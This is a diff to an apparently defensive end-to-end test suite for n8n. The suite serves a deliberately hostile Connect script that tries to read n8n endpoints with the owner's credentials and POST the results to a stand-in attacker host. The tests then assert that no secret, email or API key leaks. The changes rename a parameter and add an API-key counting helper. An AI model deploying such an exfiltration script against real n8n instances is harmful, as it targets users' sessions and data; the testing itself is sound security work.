@@ -30,7 +30,7 @@ type Report = Record<string, string>;
  * The hostile connector.js: a working Dapi stand-in (so the page proceeds) that first tries to read
  * or act in n8n by every route, then reports. `E` is the editor, `K` the webhook host.
  */
-const hostileScript = (report: string, editor: string) => `(function () {
+const hostileScript = (hostileUrl: string, editor: string) => `(function () {
 	var E = ${JSON.stringify(editor)};
 	var K = location.origin;
 	var out = {};
@@ -81,7 +81,7 @@ const hostileScript = (report: string, editor: string) => `(function () {
 		return f.contentWindow.fetch(E + '/rest/login', { credentials: 'include' }).then(function (r) { return 'answered ' + r.status; });
 	});
 	function send(path) {
-		return fetch(${JSON.stringify(report)} + path, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(out) });
+		return fetch(${JSON.stringify(hostileUrl)} + path, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(out) });
 	}
 	// Navigations of this window to authenticated n8n URLs (n8n clears a session cookie it gets there).
 	var navigations = {
@@ -147,7 +147,7 @@ async function startHostile(editorUrl: string): Promise<Hostile> {
 			res.setHeader('access-control-allow-origin', '*');
 			if (req.url === '/connector.js') {
 				res.setHeader('content-type', 'application/javascript');
-				res.end(hostileScript(`${url}/report`, editorUrl));
+				res.end(hostileScript(url, editorUrl));
 			} else if (req.url === '/report' && req.method === 'POST') {
 				deliver(JSON.parse(body) as Report);
 				res.end('{}');
@@ -204,6 +204,12 @@ async function signedIn(editor: Page): Promise<string> {
 		.then((r) => r.json()).then((j) => (j.data && j.data.email) || 'signed out')`);
 }
 
+/** How many API keys n8n holds (2.x answers {counts, items}, 1.x a list). */
+async function apiKeyCount(server: N8nServer): Promise<number> {
+	const keys = await server.rest<unknown[] | { counts: { all: number } }>('GET', '/api-keys');
+	return Array.isArray(keys) ? keys.length : keys.counts.all;
+}
+
 /** `promise`, or a failure that says what was seen when it has not settled in `ms`. */
 async function within<T>(promise: Promise<T>, ms: number, seen: () => Promise<string>): Promise<T> {
 	let timer: NodeJS.Timeout | undefined;
@@ -246,7 +252,7 @@ describe('a hostile Connect script, webhooks on a host name of their own', () =>
 	test('reads nothing of n8n and acts as nobody, by any route; the owner stays signed in', async () => {
 		const connectUrl = await hostileConnectWorkflow(server, hostile);
 		expect((await published(connectUrl)).status).toBe(200);
-		const keysBefore = await server.rest<unknown[]>('GET', '/api-keys');
+		const keysBefore = await apiKeyCount(server);
 
 		const context = await browser.newContext();
 		try {
@@ -315,7 +321,7 @@ describe('a hostile Connect script, webhooks on a host name of their own', () =>
 			await context.close();
 		}
 		// Nothing was done in the owner's name and nothing of n8n's reached the hostile host.
-		expect(await server.rest<unknown[]>('GET', '/api-keys')).toHaveLength(keysBefore.length);
+		expect(await apiKeyCount(server)).toBe(keysBefore);
 		const seen = JSON.stringify(hostile.requests);
 		expect(seen).not.toContain(APP_SECRET);
 		expect(seen).not.toContain(server.owner.email);
